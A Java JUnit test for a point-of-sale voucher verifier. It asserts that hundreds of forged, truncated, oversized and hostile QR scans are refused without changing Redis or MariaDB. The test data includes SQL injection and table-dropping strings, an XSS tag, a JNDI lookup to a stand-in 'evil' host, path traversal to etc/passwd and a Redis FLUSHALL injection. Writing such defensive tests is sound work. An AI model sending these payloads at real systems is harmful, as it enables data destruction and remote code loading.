package pos.sync.voucher;

import pos.contract.voucher.RedisVoucherRedemption;
import pos.hub.voucher.IssuedVoucher;
import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import pos.core.money.Money;
import pos.core.voucher.RedemptionResult;
import pos.core.voucher.Voucher;
import pos.core.voucher.VoucherBenefit;
import pos.core.voucher.VoucherCheck;
import pos.core.voucher.VoucherCodec;
import pos.core.voucher.VoucherKeys;
import pos.core.voucher.VoucherRefusal;
import pos.testkit.junit.WithMariaDb;
import pos.testkit.junit.WithRedis;
import pos.testkit.mariadb.TestDatabase;
import pos.testkit.redis.RedisProcess;

/**
 * DESIGN §5 bad input: forged, expired, truncated, oversized and hostile QR payloads, generated
 * (every bit flip, every truncation) and hand-written, each go through what the till does with a
 * scan (verify offline; redeem only a valid voucher) and each gets a clear refusal, while Redis
 * and MariaDB stay exactly as they were.
 */
@WithRedis
@WithMariaDb
@DisplayName("R5 forged, expired, truncated, oversized and hostile voucher scans: a clear refusal each, nothing changed")
class HostileVoucherScanTest {

    RedisProcess redisProcess;
    TestDatabase database;

    private record Case(String name, String scanned, Set<VoucherRefusal> expected) {
    }

    @Test
    @DisplayName("R5 at least 200 bad scans are refused with a reason and a message key; Redis and MariaDB unchanged")
    void r5_badScansAreRefusedAndChangeNothing() {
        try (VoucherFixture fx = new VoucherFixture(redisProcess.uri(), database.jdbcUrl(), database.user(), database.password());
                RedisVoucherRedemption till = fx.redemption(VoucherFixture.STORE)) {
            List<IssuedVoucher> issued = fx.issue(2, VoucherFixture.STORE);
            String valid = issued.get(0).code();
            String other = issued.get(1).code();
            List<Case> cases = cases(fx, valid, other);
            assertThat(cases).hasSizeGreaterThanOrEqualTo(200);

            Map<String, String> redisBefore = fx.redisSnapshot();
            long redemptionsBefore = fx.store.redemptionCount();
            int refused = 0;
            for (Case c : cases) {
                long started = System.nanoTime();
                VoucherCheck check = fx.codec.verify(c.scanned(), Instant.now(), VoucherFixture.STORE);
                long micros = (System.nanoTime() - started) / 1_000;
                if (check instanceof VoucherCheck.Valid v) {
                    RedemptionResult wrongly = till.redeem(v.voucher(), "till-1", "01JDHOSTILE000000000000000");
                    throw new AssertionError("case '" + c.name() + "' was accepted (" + wrongly + ")");
                }
                VoucherCheck.Refused refusal = (VoucherCheck.Refused) check;
                assertThat(refusal.reason()).as("reason of case '%s': %s", c.name(), refusal.detail()).isIn(c.expected());
                assertThat(refusal.messageKey()).startsWith("voucher.refused.");
                assertThat(refusal.detail()).as("detail of case '%s'", c.name()).isNotBlank().hasSizeLessThan(400)
                        .matches("[\\x20-\\x7E…]*");
                assertThat(micros).as("verifying case '%s' takes microseconds, whatever its size", c.name()).isLessThan(200_000);
                refused++;
            }
            assertThat(refused).isEqualTo(cases.size());

            // The customer's query with hostile ids: refused or unknown, and nothing changes either.
            for (String id : List.of("'; DROP TABLE vouchers; --", "<script>alert(1)</script>", "..%2F..%2Fetc%2Fpasswd",
                    "x".repeat(5_000), "\u0000", "ｖｏｕｃｈｅｒ", "01JDNOTISSUED000000000000X")) {
                assertThat(fx.query(id).status()).as("GET /vouchers/%s", VoucherCodec.printable(id)).isIn(400, 404, 414, 431);
            }
            assertThat(fx.redisSnapshot()).isEqualTo(redisBefore);
            assertThat(fx.store.redemptionCount()).isEqualTo(redemptionsBefore);
            // The genuine code is still redeemable: the bad scans left it alone.
            VoucherCheck genuine = fx.codec.verify(valid, Instant.now(), VoucherFixture.STORE);
            assertThat(till.redeem(((VoucherCheck.Valid) genuine).voucher(), "till-1", "01JDGENUINE000000000000000").isSuccess())
                    .isTrue();
        }
    }

    private static List<Case> cases(VoucherFixture fx, String valid, String other) {
        Set<VoucherRefusal> malformed = EnumSet.of(VoucherRefusal.MALFORMED);
        Set<VoucherRefusal> tampered = EnumSet.of(VoucherRefusal.MALFORMED, VoucherRefusal.FORGED, VoucherRefusal.UNKNOWN_KEY);
        List<Case> cases = new ArrayList<>();
        // Every bit flip of every character (7 bits of ASCII; the 8th makes a non-ASCII character).
        for (int i = 0; i < valid.length(); i++) {
            for (int bit = 0; bit < 8; bit++) {
                char flipped = (char) (valid.charAt(i) ^ (1 << bit));
                cases.add(new Case("bit " + bit + " of character " + i, valid.substring(0, i) + flipped + valid.substring(i + 1),
                        tampered));
            }
        }
        // Every truncation.
        for (int length = 0; length < valid.length(); length++) {
            cases.add(new Case("truncated to " + length, valid.substring(0, length), malformed));
        }
        // Signed with a key the till does not know, or with another secret under the same key id.
        Voucher genuine = ((VoucherCheck.Valid) fx.codec.verify(valid, Instant.now(), VoucherFixture.STORE)).voucher();
        VoucherCodec foreign = new VoucherCodec(VoucherKeys.of(Map.of("other-chain-1", "another-chains-secret"), "other-chain-1"));
        Voucher foreignVoucher = new Voucher(genuine.voucherId(), genuine.benefit(), genuine.customerRef(), genuine.expiresAt(),
                genuine.storeId(), "other-chain-1");
        cases.add(new Case("unknown key id", foreign.encode(foreignVoucher), EnumSet.of(VoucherRefusal.UNKNOWN_KEY)));
        VoucherCodec guessed = new VoucherCodec(VoucherKeys.of(Map.of(VoucherKeys.SANDBOX_KEY_ID, "a-guessed-secret-xyz"),
                VoucherKeys.SANDBOX_KEY_ID));
        Voucher richer = new Voucher(genuine.voucherId(), new VoucherBenefit.AmountOff(Money.ofMinor(999_999, "EUR")),
                genuine.customerRef(), genuine.expiresAt(), genuine.storeId(), genuine.keyId());
        cases.add(new Case("a bigger amount signed with a guessed secret", guessed.encode(richer),
                EnumSet.of(VoucherRefusal.FORGED)));
        String[] v = valid.split("\\.");
        String[] o = other.split("\\.");
        cases.add(new Case("payload of one voucher, signature of another", String.join(".", v[0], v[1], v[2], o[3]),
                EnumSet.of(VoucherRefusal.FORGED)));
        cases.add(new Case("signature removed", String.join(".", v[0], v[1], v[2], ""), malformed));
        cases.add(new Case("padding added", valid + "=", malformed));
        cases.add(new Case("a fifth part", valid + ".AAAA", malformed));
        cases.add(new Case("doubled", valid + valid, malformed));
        cases.add(new Case("lower-case prefix", "pv1." + valid.substring(4), malformed));
        cases.add(new Case("version 2", "PV2." + valid.substring(4), malformed));
        // Expired and other store: genuine but not redeemable here.
        VoucherCodec sandbox = fx.codec;
        cases.add(new Case("expired", sandbox.encode(new Voucher("01JDEXPIRED000000000000000", genuine.benefit(), "c",
                Instant.parse("2020-01-01T00:00:00Z"), VoucherFixture.STORE, genuine.keyId())), EnumSet.of(VoucherRefusal.EXPIRED)));
        cases.add(new Case("another store", sandbox.encode(new Voucher("01JDOTHERSTORE000000000000", genuine.benefit(), "c",
                genuine.expiresAt(), "store-2", genuine.keyId())), EnumSet.of(VoucherRefusal.WRONG_STORE)));
        // Sizes.
        cases.add(new Case("empty", "", malformed));
        cases.add(new Case("null", null, malformed));
        cases.add(new Case("one space", " ", malformed));
        cases.add(new Case("10,000 characters", "A".repeat(10_000), malformed));
        cases.add(new Case("4 MB after a valid prefix", valid + "A".repeat(4_000_000), malformed));
        cases.add(new Case("321 characters", "PV1." + "A".repeat(VoucherCodec.MAX_CODE_LENGTH - 3), malformed));
        cases.add(new Case("a huge key id", "PV1." + "k".repeat(300) + ".AAAA.AAAA", malformed));
        // Unicode tricks.
        cases.add(new Case("full-width prefix", "ＰＶ１．" + valid.substring(4), malformed));
        cases.add(new Case("Cyrillic P", "\u0420" + valid.substring(1), malformed));
        cases.add(new Case("zero-width space inside", valid.substring(0, 20) + "\u200B" + valid.substring(20), tampered));
        cases.add(new Case("byte order mark first", "\uFEFF" + valid, malformed));
        cases.add(new Case("right-to-left override", valid.substring(0, 30) + "\u202E" + valid.substring(30), tampered));
        cases.add(new Case("combining accent", valid.substring(0, 25) + "\u0301" + valid.substring(25), tampered));
        cases.add(new Case("Arabic-Indic digit in the prefix", "PV\u0661." + valid.substring(4), malformed));
        cases.add(new Case("surrogate half", valid.substring(0, 40) + "\uD800" + valid.substring(40), tampered));
        cases.add(new Case("emoji", "PV1.\uD83D\uDE00.AAAA.AAAA", malformed));
        // Control characters.
        cases.add(new Case("NUL inside", valid.substring(0, 10) + "\u0000" + valid.substring(10), tampered));
        cases.add(new Case("CR LF after", valid + "\r\n", malformed));
        cases.add(new Case("tab before", "\t" + valid, malformed));
        cases.add(new Case("ANSI escape", "\u001B[2J" + valid, malformed));
        cases.add(new Case("backspaces", valid + "\b\b\b\b", malformed));
        cases.add(new Case("DEL", valid.substring(0, 50) + "\u007F" + valid.substring(50), tampered));
        // Injection text, alone and inside the code's structure.
        for (String evil : List.of("'; DROP TABLE vouchers; --", "1' OR '1'='1", "<script>alert(1)</script>",
                "${jndi:ldap://evil/x}", "%n%n%s%s", "]] redis.call('FLUSHALL') --[[", "\" OR \"\"=\"", "../../../../etc/passwd",
                "{\"voucherId\":\"x\"}", "PV1.sandbox-voucher-1.'; DROP TABLE vouchers; --.AAAA")) {
            cases.add(new Case("injection " + evil, evil, malformed));
            cases.add(new Case("injection as key id " + evil, "PV1." + evil + "." + v[2] + "." + v[3], tampered));
            cases.add(new Case("injection as payload " + evil, "PV1." + v[1] + "." + evil + "." + v[3], tampered));
        }
        cases.add(new Case("a voucher id full of SQL, correctly shaped but unsigned", "PV1." + v[1] + "."
                + java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(
                        "x'); DELETE FROM voucher_redemptions; --|A:100:EUR|c|9999999999|*|sandbox-voucher-1".getBytes(
                                java.nio.charset.StandardCharsets.US_ASCII)) + "." + v[3], EnumSet.of(VoucherRefusal.FORGED)));
        return cases;
    }
}
